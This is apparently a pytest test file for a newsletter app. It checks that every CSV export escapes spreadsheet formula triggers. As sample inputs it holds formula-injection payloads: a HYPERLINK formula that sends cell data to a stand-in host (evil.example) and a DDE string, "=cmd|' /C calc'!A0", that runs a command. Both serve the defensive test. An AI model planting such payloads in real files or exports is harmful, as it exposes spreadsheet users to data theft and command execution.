"""Every CSV export is safe to open in a spreadsheet: text cells that would run as formulas are escaped."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import update

from newsletter import csvsafe
from newsletter.audience import subscribers as people
from newsletter.audience.importer import import_csv
from newsletter.store.tables import subscribers
from tests.test_import import write

PACKAGE = Path(__file__).resolve().parent.parent / "newsletter"
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_no_csv_writer_outside_csvsafe() -> None:
    """A new export cannot forget the escaping: only csvsafe may build a csv.writer."""
    offenders = [
        str(path.relative_to(PACKAGE))
        for path in PACKAGE.rglob("*.py")
        if path.name != "csvsafe.py" and re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]
    assert offenders == []


@given(st.text(max_size=30))
def test_cell_escapes_exactly_the_formula_triggers(value: str) -> None:
    escaped = csvsafe.cell(value)
    if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        assert escaped == "'" + value
    else:
        assert escaped == value
    buffer = io.StringIO()
    csvsafe.writer(buffer).writerow([value, 5, -3])
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert row == [escaped, "5", "-3"]  # numbers stay numbers


def test_subscriber_export_escapes_names_and_attributes(site, tmp_path) -> None:
    path = write(tmp_path / "p.csv", "email,name,organisation\nana@example.org,Ana,x\n")
    import_csv(site, path, "members", consent="test", status="confirmed")
    with site.store.write() as conn:
        conn.execute(
            update(subscribers).values(
                name=HOSTILE[0], attributes={f"k{i}": v for i, v in enumerate(HOSTILE)}
            )
        )
    out = io.StringIO()
    people.export_csv(site.store, out, "members")
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[1] == "'" + HOSTILE[0]
    assert all(cell == "'" + value for cell, value in zip(row[5:], HOSTILE, strict=True))


def test_campaign_csv_exports_escape_labels_and_urls(admin_site, admin_server) -> None:
    import httpx

    from newsletter.store.tables import events, links
    from tests.test_admin_http import login

    with admin_site.site.store.write() as conn:
        conn.execute(update(links).values(label="=cmd|' /C calc'!A0"))
        conn.execute(update(events).where(events.c.label.isnot(None)).values(label="=cmd|' /C calc'!A0"))
    occ = admin_site.seeded.occurrence_id
    with httpx.Client(base_url=admin_server.url, timeout=30) as client:
        assert login(client, admin_site.organiser).status_code == 303
        for path in (f"/admin/campaigns/{occ}/figures.csv", f"/admin/campaigns/{occ}/clicks.csv"):
            rows = list(csv.DictReader(io.StringIO(client.get(path).text, newline="")))
            labels = {r["label"] for r in rows if r["label"]}
            assert labels == {"'=cmd|' /C calc'!A0"}, path
